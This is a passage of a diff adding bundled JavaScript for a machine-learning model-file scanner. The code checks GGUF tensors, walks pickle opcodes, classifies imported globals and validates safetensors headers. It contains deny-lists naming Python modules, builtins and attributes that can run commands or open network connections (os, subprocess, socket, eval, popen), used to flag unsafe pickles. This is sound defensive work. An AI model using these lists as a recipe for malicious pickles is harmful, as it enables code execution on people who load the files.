+      if (p2.bytes !== void 0 && p2.offset + p2.bytes > infos[i].offset) add("GGUF_TENSOR", `tensors ${JSON.stringify(p2.name.slice(0, 120))} and ${JSON.stringify(infos[i].name.slice(0, 120))} overlap`);
+    }
+  } catch (e) {
+    if (e instanceof Bad) add("GGUF_MALFORMED", e.message);
+    else if (e instanceof Truncated) add("GGUF_MALFORMED", `file ends inside the GGUF header (${e.message})`);
+    else throw e;
+  }
+  return findings;
+}
+var FIXED, GGUF_STRING, GGUF_ARRAY, MAX_DIMS, GGML_BLOCKS, Bad;
+var init_gguf = __esm({
+  "src/scan/gguf.ts"() {
+    "use strict";
+    init_source2();
+    FIXED = { 0: 1, 1: 1, 2: 2, 3: 2, 4: 4, 5: 4, 6: 4, 7: 1, 10: 8, 11: 8, 12: 8 };
+    GGUF_STRING = 8;
+    GGUF_ARRAY = 9;
+    MAX_DIMS = 4;
+    GGML_BLOCKS = {
+      0: [1, 4],
+      1: [1, 2],
+      2: [32, 18],
+      3: [32, 20],
+      6: [32, 22],
+      7: [32, 24],
+      8: [32, 34],
+      9: [32, 36],
+      10: [256, 84],
+      11: [256, 110],
+      12: [256, 144],
+      13: [256, 176],
+      14: [256, 210],
+      15: [256, 292],
+      24: [1, 1],
+      25: [1, 2],
+      26: [1, 4],
+      27: [1, 8],
+      28: [1, 8],
+      30: [1, 2]
+    };
+    Bad = class extends Error {
+    };
+  }
+});
+
+// src/scan/globals.ts
+function canonicalModule(module) {
+  const first = module.split(".")[0];
+  const mapped = PY2_MODULES[first];
+  return mapped === void 0 ? module : mapped + module.slice(first.length);
+}
+function underPrefix(full, prefix) {
+  return full === prefix || full.startsWith(`${prefix}.`);
+}
+function classifyGlobal(module, name2) {
+  const mod = canonicalModule(module);
+  const full = `${mod}.${name2}`;
+  if (ALLOWED.has(full) || TORCH_STORAGE.test(full) || NUMPY_DTYPE_CLASS.test(full)) return { verdict: "allowed" };
+  for (const m2 of DANGEROUS_MODULES) if (underPrefix(full, m2)) return { verdict: "dangerous", why: `${m2} is on the deny-list` };
+  const segs = full.split(".");
+  if (segs[0] === "builtins" && segs.length >= 2 && DANGEROUS_BUILTINS.has(segs[1])) return { verdict: "dangerous", why: `builtin ${segs[1]} can run code or reach any object` };
+  for (const s3 of segs.slice(1)) {
+    if (DANGEROUS_SEGMENTS.has(s3)) return { verdict: "dangerous", why: `reaches "${s3}" through attribute lookup` };
+    if (/^__.*__$/.test(s3)) return { verdict: "dangerous", why: `reaches the dunder attribute ${s3}` };
+  }
+  if (name2 === "" || module === "" || !/^[A-Za-z_][A-Za-z0-9_.]*$/.test(module) || !/^[A-Za-z_][A-Za-z0-9_.]*$/.test(name2)) {
+    return { verdict: "dangerous", why: "not a valid Python name" };
+  }
+  return { verdict: "unknown" };
+}
+var PY2_MODULES, TORCH_REBUILD, TORCH_DTYPES, ALLOWED, TORCH_STORAGE, NUMPY_DTYPE_CLASS, DANGEROUS_MODULES, DANGEROUS_BUILTINS, DANGEROUS_SEGMENTS;
+var init_globals = __esm({
+  "src/scan/globals.ts"() {
+    "use strict";
+    PY2_MODULES = { __builtin__: "builtins", copy_reg: "copyreg", exceptions: "builtins" };
+    TORCH_REBUILD = [
+      "_rebuild_tensor",
+      "_rebuild_tensor_v2",
+      "_rebuild_tensor_v3",
+      "_rebuild_parameter",
+      "_rebuild_parameter_with_state",
+      "_rebuild_sparse_tensor",
+      "_rebuild_sparse_csr_tensor",
+      "_rebuild_qtensor",
+      "_rebuild_nested_tensor",
+      "_rebuild_device_tensor_from_numpy",
+      "_rebuild_meta_tensor_no_storage",
+      "_rebuild_device_tensor_from_cpu_tensor"
+    ];
+    TORCH_DTYPES = [
+      "float16",
+      "float32",
+      "float64",
+      "bfloat16",
+      "half",
+      "float",
+      "double",
+      "complex32",
+      "complex64",
+      "complex128",
+      "cfloat",
+      "cdouble",
+      "uint8",
+      "uint16",
+      "uint32",
+      "uint64",
+      "int8",
+      "int16",
+      "int32",
+      "int64",
+      "short",
+      "int",
+      "long",
+      "bool",
+      "float8_e4m3fn",
+      "float8_e5m2",
+      "float8_e4m3fnuz",
+      "float8_e5m2fnuz",
+      "qint8",
+      "quint8",
+      "qint32",
+      "quint4x2",
+      "contiguous_format",
+      "channels_last",
+      "channels_last_3d",
+      "preserve_format"
+    ];
+    ALLOWED = /* @__PURE__ */ new Set([
+      ...TORCH_REBUILD.map((n) => `torch._utils.${n}`),
+      ...TORCH_DTYPES.map((n) => `torch.${n}`),
+      "torch.Size",
+      "torch.device",
+      "torch.Tensor",
+      "torch.nn.parameter.Parameter",
+      "torch._tensor._rebuild_from_type_v2",
+      "torch.serialization._get_layout",
+      "torch.sparse_coo",
+      "torch.strided",
+      // TorchScript archives rebuild lists and tensors with these.
+      "torch.jit._pickle.build_intlist",
+      "torch.jit._pickle.build_doublelist",
+      "torch.jit._pickle.build_boollist",
+      "torch.jit._pickle.build_tensorlist",
+      "torch.jit._pickle.build_tensor_from_id",
+      "torch.jit._pickle.restore_type_tag",
+      "collections.OrderedDict",
+      "builtins.set",
+      "builtins.frozenset",
+      "builtins.dict",
+      "builtins.list",
+      "builtins.tuple",
+      "builtins.bytearray",
+      "builtins.bytes",
+      "builtins.str",
+      "builtins.int",
+      "builtins.float",
+      "builtins.complex",
+      "builtins.bool",
+      "builtins.slice",
+      "builtins.object",
+      "_codecs.encode",
+      // protocol 2 writes bytes as _codecs.encode(str, "latin1")
+      "copyreg._reconstructor",
+      // protocol 0/1 object rebuild; the class it builds is checked on its own
+      "numpy.core.multiarray._reconstruct",
+      "numpy._core.multiarray._reconstruct",
+      "numpy.core.multiarray.scalar",
+      "numpy._core.multiarray.scalar",
+      "numpy.core.numeric._frombuffer",
+      "numpy._core.numeric._frombuffer",
+      "numpy.dtype",
+      "numpy.ndarray",
+      "joblib.numpy_pickle.NumpyArrayWrapper",
+      "sklearn.externals.joblib.numpy_pickle.NumpyArrayWrapper"
+    ]);
+    TORCH_STORAGE = /^torch\.(?:cuda\.)?[A-Za-z0-9]*Storage$/;
+    NUMPY_DTYPE_CLASS = /^numpy\.dtypes\.[A-Za-z0-9]+DType$/;
+    DANGEROUS_MODULES = [
+      "os",
+      "posix",
+      "nt",
+      "posixpath",
+      "ntpath",
+      "subprocess",
+      "pty",
+      "sys",
+      "socket",
+      "ssl",
+      "shutil",
+      "runpy",
+      "importlib",
+      "imp",
+      "pkgutil",
+      "zipimport",
+      "pickle",
+      "_pickle",
+      "cPickle",
+      "pickletools",
+      "marshal",
+      "dill",
+      "cloudpickle",
+      "joblib.load",
+      "shelve",
+      "types",
+      "code",
+      "codeop",
+      "ctypes",
+      "_ctypes",
+      "cffi",
+      "multiprocessing",
+      "concurrent",
+      "threading",
+      "_thread",
+      "asyncio",
+      "signal",
+      "resource",
+      "webbrowser",
+      "requests",
+      "urllib",
+      "urllib2",
+      "urllib3",
+      "httplib",
+      "http",
+      "httpx",
+      "aiohttp",
+      "ftplib",
+      "smtplib",
+      "telnetlib",
+      "poplib",
+      "imaplib",
+      "xmlrpc",
+      "socketserver",
+      "commands",
+      "pdb",
+      "bdb",
+      "timeit",
+      "cProfile",
+      "profile",
+      "trace",
+      "doctest",
+      "io",
+      "_io",
+      "tempfile",
+      "glob",
+      "fileinput",
+      "pathlib",
+      "sqlite3",
+      "builtins.eval",
+      "operator.attrgetter",
+      "operator.methodcaller",
+      "gc",
+      "inspect",
+      "site",
+      "sysconfig",
+      "venv",
+      "ensurepip",
+      "pip",
+      "setuptools",
+      "distutils",
+      "platform",
+      "uuid._popen",
+      "torch.hub",
+      "torch.load",
+      "torch.storage._load_from_bytes",
+      "torch.serialization.load",
+      "torch.jit.load",
+      "torch.jit._load_for_lite_interpreter",
+      "torch._dynamo",
+      "torch.utils.cpp_extension",
+      "numpy.load",
+      "numpy.testing",
+      "numpy.f2py",
+      "numpy.distutils",
+      "numpy.ctypeslib",
+      "pandas.read_pickle",
+      "keras.models",
+      "tensorflow.io",
+      "bz2",
+      "lzma",
+      "gzip",
+      "zipfile",
+      "tarfile",
+      "mmap",
+      "fcntl",
+      "termios",
+      "tty",
+      "pwd",
+      "grp",
+      "crypt",
+      "spwd",
+      "syslog",
+      "select"
+    ];
+    DANGEROUS_BUILTINS = /* @__PURE__ */ new Set([
+      "eval",
+      "exec",
+      "execfile",
+      "compile",
+      "open",
+      "file",
+      "getattr",
+      "setattr",
+      "delattr",
+      "hasattr",
+      "__import__",
+      "globals",
+      "locals",
+      "vars",
+      "input",
+      "raw_input",
+      "breakpoint",
+      "apply",
+      "reload",
+      "help",
+      "memoryview",
+      "exit",
+      "quit"
+    ]);
+    DANGEROUS_SEGMENTS = /* @__PURE__ */ new Set([
+      "os",
+      "posix",
+      "nt",
+      "subprocess",
+      "sys",
+      "socket",
+      "shutil",
+      "runpy",
+      "importlib",
+      "pickle",
+      "marshal",
+      "builtins",
+      "__builtin__",
+      "__builtins__",
+      "system",
+      "popen",
+      "spawn",
+      "execv",
+      "execve",
+      "execl",
+      "execvp",
+      "fork",
+      "eval",
+      "exec",
+      "compile",
+      "getattr",
+      "setattr",
+      "__import__",
+      "import_module",
+      "load",
+      "loads",
+      "open"
+    ]);
+  }
+});
+
+// src/scan/pickle.ts
+import { isUtf8 } from "node:buffer";
+function describe2(v2) {
+  if (v2 === void 0) return "nothing (empty stack)";
+  switch (v2.k) {
+    case "mark":
+      return "a MARK";
+    case "str":
+      return JSON.stringify(v2.s.slice(0, 80));
+    case "global":
+      return `the global ${v2.g.module}.${v2.g.name}`;
+    case "obj":
+      return `an object made by ${v2.g.module}.${v2.g.name}`;
+    default:
+      return `a ${v2.what}`;
+  }
+}
+function decodeQuoted(line) {
+  const t = line.toString("latin1");
+  if (t.length < 2 || t[0] !== "'" && t[0] !== '"' || t[t.length - 1] !== t[0]) return void 0;
+  const body = t.slice(1, -1);
+  if (!body.includes("\\")) return body;
+  let out2 = "";
+  for (let i = 0; i < body.length; i++) {
+    const c = body[i];
+    if (c !== "\\") {
+      out2 += c;
+      continue;
+    }
+    const e = body[++i];
+    if (e === void 0) return void 0;
+    const simple = { n: "\n", t: "	", r: "\r", "\\": "\\", "'": "'", '"': '"', a: "\x07", b: "\b", f: "\f", v: "\v", "\n": "" };
+    if (simple[e] !== void 0) out2 += simple[e];
+    else if (e === "x" && /^[0-9a-fA-F]{2}$/.test(body.slice(i + 1, i + 3))) {
+      out2 += String.fromCharCode(parseInt(body.slice(i + 1, i + 3), 16));
+      i += 2;
+    } else if (/[0-7]/.test(e)) {
+      const m2 = /^[0-7]{1,3}/.exec(body.slice(i))[0];
+      out2 += String.fromCharCode(parseInt(m2, 8) & 255);
+      i += m2.length - 1;
+    } else out2 += `\\${e}`;
+  }
+  return out2;
+}
+function decodeRawUnicode(line) {
+  const t = line.toString("latin1");
+  let out2 = "";
+  for (let i = 0; i < t.length; i++) {
+    if (t[i] === "\\" && (t[i + 1] === "u" || t[i + 1] === "U")) {
+      const n = t[i + 1] === "u" ? 4 : 8;
+      const hex = t.slice(i + 2, i + 2 + n);
+      if (!new RegExp(`^[0-9a-fA-F]{${n}}$`).test(hex)) return void 0;
+      const cp2 = parseInt(hex, 16);
+      if (cp2 > 1114111) return void 0;
+      out2 += String.fromCodePoint(cp2);
+      i += 1 + n;
+    } else out2 += t[i];
+  }
+  return out2;
+}
+function utf8(b2) {
+  if (!isUtf8(b2)) throw new Malformed("string is not valid UTF-8");
+  return b2.toString("utf8");
+}
+async function walkPickles(src, opts) {
+  const { limits } = opts;
+  const imports = /* @__PURE__ */ new Map();
+  const findings = [];
+  const base2 = { file: opts.file, ...opts.member !== void 0 ? { member: opts.member } : {} };
+  const add = (severity, code, message, offset, global2) => {
+    findings.push({ ...base2, code, severity, message, ...offset !== void 0 ? { offset } : {}, ...global2 !== void 0 ? { global: global2 } : {} });
+  };
+  let opcodes = 0;
+  let pickles = 0;
+  let stringBytes = 0;
+  let legacyTorch = false;
+  const interned = /* @__PURE__ */ new Map();
+  const globalOf = (module, name2) => {
+    const k2 = `${module}
+${name2}`;
+    let g2 = interned.get(k2);
+    if (!g2) {
+      if (interned.size >= limits.maxImports) throw new LimitHit(`more than ${limits.maxImports} distinct imported globals`);
+      g2 = { module, name: name2 };
+      interned.set(k2, g2);
+    }
+    return g2;
+  };
+  const record = (g2, via, use) => {
+    const key = g2;
+    let imp = imports.get(key);
+    if (!imp) {
+      imp = { module: g2.module, name: g2.name, via: [], usedBy: [], verdict: classifyGlobal(g2.module, g2.name).verdict, ...opts.member !== void 0 ? { member: opts.member } : {} };
+      imports.set(key, imp);
+    }
+    if (via && !imp.via.includes(via)) imp.via.push(via);
+    if (use && !imp.usedBy.includes(use)) imp.usedBy.push(use);
+  };
+  const used = (v2, use) => {
+    if (v2 && (v2.k === "global" || v2.k === "obj")) record(v2.g, void 0, use);
+  };
+  const str3 = (b2, enc) => {
+    if (b2.length > MAX_KEPT_STRING || stringBytes + b2.length > limits.maxStringBytes) return LONGSTR;
+    stringBytes += b2.length;
+    if (enc === "latin1") return { k: "str", s: b2.toString("latin1") };
+    return { k: "str", s: utf8(b2) };
+  };
+  const walkOne = async () => {
+    const stack = [];
+    const marks = [];
+    const memo = /* @__PURE__ */ new Map();
+    const push = (v2) => {
+      if (stack.length >= limits.maxStack) throw new LimitHit(`stack deeper than ${limits.maxStack}`);
+      stack.push(v2);
+    };
+    const pop = () => {
+      if (stack.length === 0 || marks.length > 0 && stack.length <= marks[marks.length - 1]) throw new Malformed("pop from an empty stack");
+      return stack.pop();
+    };
+    const popMark = () => {
+      const m2 = marks.pop();
+      if (m2 === void 0) throw new Malformed("no MARK to pop to");
+      return stack.splice(m2);
+    };
+    const top = () => {
+      if (stack.length === 0) throw new Malformed("empty stack");
+      return stack[stack.length - 1];
+    };
+    const fixed = (n) => {
+      if (src.buffered < n) throw new Truncated(src.pos + src.buffered);
+      return src.take(n);
+    };
+    const size8 = (b2) => {
+      const v2 = b2.readBigUInt64LE(0);
+      if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new Malformed("length too large");
+      return Number(v2);
+    };
+    const lenStr = async (n, enc) => {
+      if (n > MAX_KEPT_STRING) {
+        await src.skip(n);
+        return LONGSTR;
+      }
+      if (src.buffered < n) await src.ensure(n);
+      return str3(Buffer.from(fixed(n)), enc);
+    };
+    const skipBytes = async (n) => {
+      if (src.buffered >= n) src.take(n);
+      else await src.skip(n);
+      return BYTES;
+    };
+    const line = async (what) => {
+      const l = await src.line(MAX_LINE);
+      if (l === void 0) throw new Malformed(`${what} argument longer than ${MAX_LINE} bytes`);
+      return Buffer.from(l);
+    };
+    const memoPut = (i, v2) => {
+      if (!memo.has(i) && memo.size >= limits.maxMemo) throw new LimitHit(`more than ${limits.maxMemo} memo entries`);
+      memo.set(i, v2);
+    };
+    const memoGet = (i) => {
+      const v2 = memo.get(i);
+      if (v2 === void 0) throw new Malformed(`memo key ${i} was never stored`);
+      push(v2);
+    };
+    const importGlobal = async (via, at2) => {
+      const m2 = await src.line(1024);
+      const n = m2 === void 0 ? void 0 : await src.line(1024);
+      if (m2 === void 0 || n === void 0) throw new Malformed(`${via} name longer than 1024 bytes`);
+      if (!isUtf8(m2) || !isUtf8(n)) throw new Malformed(`${via} name is not valid UTF-8`);
+      const g2 = globalOf(m2.toString("utf8"), n.toString("utf8"));
+      record(g2, via);
+      void at2;
+      return g2;
+    };
+    for (; ; ) {
+      if (++opcodes > limits.maxOpcodes) throw new LimitHit(`more than ${limits.maxOpcodes} opcodes`);
+      if (src.buffered < 16) await src.ensure(16);
+      if (src.buffered < 1) throw new Malformed("pickle ends without STOP");
+      const at2 = src.pos;
+      const op = src.u8();
+      switch (op) {
+        case 40:
+          marks.push(stack.length);
+          break;
+        case 46:
+          pop();
+          return;
+        case 48:
+          if (marks.length > 0 && stack.length === marks[marks.length - 1]) marks.pop();
+          else pop();
+          break;
+        case 49:
+          popMark();
+          break;
+        case 50:
+          push(top());
+          break;
+        case 70:
+        case 73:
+        case 76:
+          await line(NAMES[op]);
+          push(OTHER);
+          break;
+        case 74:
+          fixed(4);
+          push(OTHER);
+          break;
+        // BININT
+        case 75:
+          fixed(1);
+          push(OTHER);
+          break;
+        // BININT1
+        case 77:
+          fixed(2);
+          push(OTHER);
+          break;
+        // BININT2
+        case 71:
+          fixed(8);
+          push(OTHER);
+          break;
+        // BINFLOAT
+        case 78:
+        case 136:
+        case 137:
+          push(OTHER);
+          break;
+        // NONE NEWTRUE NEWFALSE
+        case 80:
+          await line("PERSID");
+          push(OTHER);
+          break;
+        case 81:
+          pop();
+          push(OTHER);
+          break;
+        case 82: {
+          pop();
+          const f2 = pop();
+          used(f2, "REDUCE");
+          push(f2.k === "global" || f2.k === "obj" ? { k: "obj", g: f2.g } : OTHER);
+          break;
+        }
+        case 83: {
+          const l = await line("STRING");
+          const s3 = decodeQuoted(l);
+          if (s3 === void 0) throw new Malformed("STRING argument is not a quoted string");
+          push(str3(Buffer.from(s3, "latin1"), "latin1"));
+          break;
+        }
+        case 84: {
+          const n = fixed(4).readInt32LE(0);
+          if (n < 0) throw new Malformed("negative BINSTRING length");
+          push(await lenStr(n, "latin1"));
+          break;
+        }
+        case 85:
+          push(await lenStr(fixed(1)[0], "latin1"));
+          break;
+        // SHORT_BINSTRING
+        case 86: {
+          const s3 = decodeRawUnicode(await line("UNICODE"));
+          if (s3 === void 0) throw new Malformed("bad UNICODE escape");
+          push(s3.length > MAX_KEPT_STRING ? LONGSTR : { k: "str", s: s3 });
+          break;
+        }
+        case 88:
+          push(await lenStr(fixed(4).readUInt32LE(0), "utf8"));
+          break;
+        // BINUNICODE
+        case 140:
+          push(await lenStr(fixed(1)[0], "utf8"));
+          break;
+        // SHORT_BINUNICODE
+        case 141:
+          push(await lenStr(size8(fixed(8)), "utf8"));
+          break;
+        // BINUNICODE8
+        case 66:
+          push(await skipBytes(fixed(4).readUInt32LE(0)));
+          break;
+        // BINBYTES
+        case 67:
+          push(await skipBytes(fixed(1)[0]));
+          break;
+        // SHORT_BINBYTES
+        case 142:
+        case 150:
+          push(await skipBytes(size8(fixed(8))));
+          break;
+        // BINBYTES8 BYTEARRAY8
+        case 138: {
+          const n = fixed(1)[0];
+          if (src.buffered < n) await src.ensure(n);
+          const v2 = fixed(n);
+          if (pickles === 0 && n === TORCH_MAGIC.length && v2.equals(TORCH_MAGIC)) legacyTorch = true;
+          push(OTHER);
+          break;
+        }
+        case 139: {
+          const n = fixed(4).readInt32LE(0);
+          if (n < 0) throw new Malformed("negative LONG4 length");
+          await src.skip(n);
+          push(OTHER);
+          break;
+        }
+        case 97:
+          pop();
+          top();
+          break;
+        // APPEND
+        case 98: {
+          pop();
+          used(top(), "BUILD");
+          break;
+        }
+        case 99: {
+          push({ k: "global", g: await importGlobal("GLOBAL", at2) });
+          break;
+        }
+        case 105: {
+          const g2 = await importGlobal("INST", at2);
+          popMark();
+          record(g2, void 0, "INST");
+          push({ k: "obj", g: g2 });
+          break;
+        }
+        case 111: {
+          const items = popMark();
+          if (items.length === 0) throw new Malformed("OBJ without a class");
+          const cls = items[0];
+          used(cls, "OBJ");
+          push(cls.k === "global" || cls.k === "obj" ? { k: "obj", g: cls.g } : OTHER);
+          break;
+        }
+        case 129: {
+          pop();
+          const cls = pop();
+          used(cls, "NEWOBJ");
+          push(cls.k === "global" || cls.k === "obj" ? { k: "obj", g: cls.g } : OTHER);
+          break;
+        }
+        case 146: {
+          pop();
+          pop();
+          const cls = pop();
+          used(cls, "NEWOBJ_EX");
+          push(cls.k === "global" || cls.k === "obj" ? { k: "obj", g: cls.g } : OTHER);
+          break;
+        }
+        case 147: {
+          const name2 = pop();
+          const module = pop();
+          if (module.k !== "str" || name2.k !== "str") {
+            add("critical", "PICKLE_NONSTRING_GLOBAL", `STACK_GLOBAL with operands that are not plain strings (module: ${describe2(module)}, name: ${describe2(name2)}); a scanner cannot tell what it imports`, at2);
+            push(OTHER);
+            break;
+          }
+          const g2 = globalOf(module.s, name2.s);
+          record(g2, "STACK_GLOBAL");
+          push({ k: "global", g: g2 });
+          break;
+        }
+        case 100:
+        case 108:
+        case 116:
+        case 145:
+          popMark();
+          push(OTHER);
+          break;
+        case 101:
+        case 117:
+        case 144:
+          popMark();
+          top();
+          break;
+        case 125:
+        case 93:
+        case 41:
+        case 143:
+          push(OTHER);
+          break;
+        // EMPTY_DICT EMPTY_LIST EMPTY_TUPLE EMPTY_SET
+        case 115:
+          pop();
+          pop();
+          top();
+          break;
+        // SETITEM
+        case 133:
+          pop();
+          push(OTHER);
+          break;
+        // TUPLE1
+        case 134:
+          pop();
+          pop();
+          push(OTHER);
+          break;
+        // TUPLE2
+        case 135:
+          pop();
+          pop();
+          pop();
+          push(OTHER);
+          break;
+        // TUPLE3
+        case 103: {
+          const l = (await line("GET")).toString("latin1");
+          if (!/^-?\d{1,18}$/.test(l)) throw new Malformed("GET argument is not a number");
+          memoGet(Number(l));
+          break;
+        }
+        case 104:
+          memoGet(fixed(1)[0]);
+          break;
+        // BINGET
+        case 106:
+          memoGet(fixed(4).readUInt32LE(0));
+          break;
+        // LONG_BINGET
+        case 112: {
+          const l = (await line("PUT")).toString("latin1");
+          if (!/^\d{1,18}$/.test(l)) throw new Malformed("PUT argument is not a number");
+          memoPut(Number(l), top());
+          break;
+        }
+        case 113:
+          memoPut(fixed(1)[0], top());
+          break;
+        // BINPUT
+        case 114:
+          memoPut(fixed(4).readUInt32LE(0), top());
+          break;
+        // LONG_BINPUT
+        case 148:
+          memoPut(memo.size, top());
+          break;
+        // MEMOIZE
+        case 128: {
+          const p2 = fixed(1)[0];
+          if (p2 > 5) throw new Malformed(`unsupported pickle protocol ${p2}`);
+          break;
+        }
+        case 149:
+          fixed(8);
+          break;
+        // FRAME: the framed opcodes follow inline
+        case 130:
+        case 131:
+        case 132: {
+          const code = op === 130 ? fixed(1)[0] : op === 131 ? fixed(2).readUInt16LE(0) : fixed(4).readInt32LE(0);
+          add("high", "PICKLE_EXTENSION", `${NAMES[op]} imports extension-registry code ${code}, which names a global this scanner cannot see`, at2);
+          push(OTHER);
+          break;
+        }
+        case 151:
+          push(OTHER);
+          break;
+        // NEXT_BUFFER (out-of-band data)
+        case 152:
+          pop();
+          push(OTHER);
+          break;
+        // READONLY_BUFFER
+        default:
+          throw new Malformed(`unknown opcode 0x${op.toString(16).padStart(2, "0")}`);
+      }
+    }
+  };
+  try {
+    for (; ; ) {
+      await walkOne();
+      pickles++;
+      if (opts.multiple === false || legacyTorch && pickles >= LEGACY_TORCH_PICKLES) break;
+      if (!await src.ensure(2)) break;
+      const next = src.peek(2);
+      if (next[0] !== 128 || next[1] < 2 || next[1] > 5) break;
+      if (pickles >= limits.maxPicklesPerStream) {
+        add("high", "SCAN_LIMIT", `more than ${limits.maxPicklesPerStream} pickles in a row; the rest was not scanned`, src.pos);
+        break;
+      }
+    }
+  } catch (e) {
+    if (e instanceof Malformed) add("high", "PICKLE_MALFORMED", `not a valid pickle: ${e.message} (near offset ${src.pos})`, src.pos);
+    else if (e instanceof Truncated) add("high", "PICKLE_MALFORMED", `pickle is truncated: ${e.message}`, e.at);
+    else if (e instanceof LimitHit) add("high", "SCAN_LIMIT", `pickle too complex to scan: ${e.message}`, src.pos);
+    else throw e;
+  }
+  const list2 = [...imports.values()];
+  for (const imp of list2) {
+    if (imp.verdict === "allowed") continue;
+    const full = `${imp.module}.${imp.name}`;
+    const how = `via ${imp.via.join("/") || "memo"}${imp.usedBy.length ? `, used by ${imp.usedBy.join("/")}` : ""}`;
+    if (imp.verdict === "dangerous") {
+      const why2 = classifyGlobal(imp.module, imp.name).why ?? "dangerous";
+      add("critical", "PICKLE_DANGEROUS_GLOBAL", `imports ${full} (${why2}) ${how}; loading this file can run code`, void 0, full);
+    } else {
+      add("medium", "PICKLE_UNKNOWN_GLOBAL", `imports ${full}, which is not on the allow-list for weights (${how})`, void 0, full);
+    }
+  }
+  return { imports: list2, findings, pickles, opcodes };
+}
+var OTHER, BYTES, LONGSTR, NAMES, MAX_KEPT_STRING, MAX_LINE, TORCH_MAGIC, LEGACY_TORCH_PICKLES, Malformed, LimitHit;
+var init_pickle = __esm({
+  "src/scan/pickle.ts"() {
+    "use strict";
+    init_globals();
+    init_source2();
+    OTHER = { k: "other", what: "value" };
+    BYTES = { k: "other", what: "bytes" };
+    LONGSTR = { k: "other", what: "string too long to follow" };
+    NAMES = {
+      40: "MARK",
+      46: "STOP",
+      48: "POP",
+      49: "POP_MARK",
+      50: "DUP",
+      70: "FLOAT",
+      73: "INT",
+      74: "BININT",
+      75: "BININT1",
+      76: "LONG",
+      77: "BININT2",
+      78: "NONE",
+      80: "PERSID",
+      81: "BINPERSID",
+      82: "REDUCE",
+      83: "STRING",
+      84: "BINSTRING",
+      85: "SHORT_BINSTRING",
+      86: "UNICODE",
+      88: "BINUNICODE",
+      97: "APPEND",
+      98: "BUILD",
+      99: "GLOBAL",
+      100: "DICT",
+      125: "EMPTY_DICT",
+      101: "APPENDS",
+      103: "GET",
+      104: "BINGET",
+      105: "INST",
+      106: "LONG_BINGET",
+      108: "LIST",
+      93: "EMPTY_LIST",
+      111: "OBJ",
+      112: "PUT",
+      113: "BINPUT",
+      114: "LONG_BINPUT",
+      115: "SETITEM",
+      116: "TUPLE",
+      41: "EMPTY_TUPLE",
+      117: "SETITEMS",
+      71: "BINFLOAT",
+      128: "PROTO",
+      129: "NEWOBJ",
+      130: "EXT1",
+      131: "EXT2",
+      132: "EXT4",
+      133: "TUPLE1",
+      134: "TUPLE2",
+      135: "TUPLE3",
+      136: "NEWTRUE",
+      137: "NEWFALSE",
+      138: "LONG1",
+      139: "LONG4",
+      66: "BINBYTES",
+      67: "SHORT_BINBYTES",
+      140: "SHORT_BINUNICODE",
+      141: "BINUNICODE8",
+      142: "BINBYTES8",
+      143: "EMPTY_SET",
+      144: "ADDITEMS",
+      145: "FROZENSET",
+      146: "NEWOBJ_EX",
+      147: "STACK_GLOBAL",
+      148: "MEMOIZE",
+      149: "FRAME",
+      150: "BYTEARRAY8",
+      151: "NEXT_BUFFER",
+      152: "READONLY_BUFFER"
+    };
+    MAX_KEPT_STRING = 1024;
+    MAX_LINE = 1 << 20;
+    TORCH_MAGIC = Buffer.from([108, 252, 156, 70, 249, 32, 106, 168, 80, 25]);
+    LEGACY_TORCH_PICKLES = 5;
+    Malformed = class extends Error {
+    };
+    LimitHit = class extends Error {
+    };
+  }
+});
+
+// src/scan/safetensors.ts
+async function checkSafetensors(src, size, file, limits, member) {
+  const findings = [];
+  const add = (code, message) => findings.push({ code, severity: "high", file, ...member !== void 0 ? { member } : {}, message });
+  if (size < 8) {
+    add("SAFETENSORS_TRUNCATED", `file is ${size} bytes, too short for the 8-byte header length`);
+    return findings;
+  }
+  const n = (await src.read(8)).readBigUInt64LE(0);
+  if (n > BigInt(limits.maxSafetensorsHeader)) {
+    add("SAFETENSORS_HEADER_LENGTH", `header length ${n} is larger than the ${limits.maxSafetensorsHeader}-byte limit`);
+    return findings;
+  }
+  const hlen = Number(n);
+  if (8 + hlen > size) {
+    add("SAFETENSORS_HEADER_LENGTH", `header length ${hlen} points past the end of the ${size}-byte file`);
+    return findings;
+  }
+  if (hlen < 2) {
+    add("SAFETENSORS_HEADER_LENGTH", `header length ${hlen} is too small for a JSON object`);
+    return findings;
+  }
+  const raw = await src.read(hlen);
+  let text;
+  try {
+    text = utf82.decode(raw);
+  } catch {
+    add("SAFETENSORS_HEADER_JSON", "header is not valid UTF-8");
+    return findings;
+  }
+  if (!text.startsWith("{")) {
+    add("SAFETENSORS_HEADER_JSON", 'header does not start with "{"');
+    return findings;
+  }
+  let header;
+  try {
+    header = parseStrictJson(text, { what: "safetensors header", code: "SAFETENSORS_HEADER_JSON", maxDepth: 8 });
+  } catch (e) {
+    if (e instanceof ModelsignError) {
+      add(/duplicate key/.test(e.message) ? "SAFETENSORS_DUPLICATE_KEY" : "SAFETENSORS_HEADER_JSON", e.message);
+      return findings;
+    }
+    throw e;
+  }
+  if (!isObject(header)) {
+    add("SAFETENSORS_HEADER_JSON", "header is not a JSON object");
+    return findings;
+  }
+  const dataLen = size - 8 - hlen;
+  const spans = [];
+  for (const [name2, info2] of Object.entries(header)) {
+    const shown = JSON.stringify(name2.slice(0, 120));
+    if (name2 === "__metadata__") {
+      if (!isObject(info2)) add("SAFETENSORS_METADATA", "__metadata__ is not an object");
+      else for (const [k2, v2] of Object.entries(info2)) if (typeof v2 !== "string") add("SAFETENSORS_METADATA", `__metadata__ value ${JSON.stringify(k2.slice(0, 120))} is not a string`);
+      continue;
+    }
+    if (!isObject(info2)) {
+      add("SAFETENSORS_TENSOR", `tensor ${shown} is not an object`);
+      continue;
+    }
+    const extra = Object.keys(info2).filter((k2) => k2 !== "dtype" && k2 !== "shape" && k2 !== "data_offsets");
+    if (extra.length) add("SAFETENSORS_TENSOR", `tensor ${shown} has unexpected fields: ${extra.slice(0, 5).join(", ")}`);
+    const { dtype, shape, data_offsets: offs } = info2;
+    if (typeof dtype !== "string" || SAFETENSORS_DTYPE_BITS[dtype] === void 0) {
+      add("SAFETENSORS_DTYPE", `tensor ${shown} has unknown dtype ${JSON.stringify(dtype)}`);
+      continue;
+    }
+    if (!Array.isArray(shape) || !shape.every((d) => typeof d === "number" && Number.isSafeInteger(d) && d >= 0)) {
+      add("SAFETENSORS_TENSOR", `tensor ${shown} has a shape that is not a list of non-negative integers`);
+      continue;
+    }
+    if (!Array.isArray(offs) || offs.length !== 2 || !offs.every((d) => typeof d === "number" && Number.isSafeInteger(d) && d >= 0) || offs[1] < offs[0]) {
+      add("SAFETENSORS_OFFSETS", `tensor ${shown} has data_offsets that are not [begin, end] with begin <= end`);
+      continue;
+    }
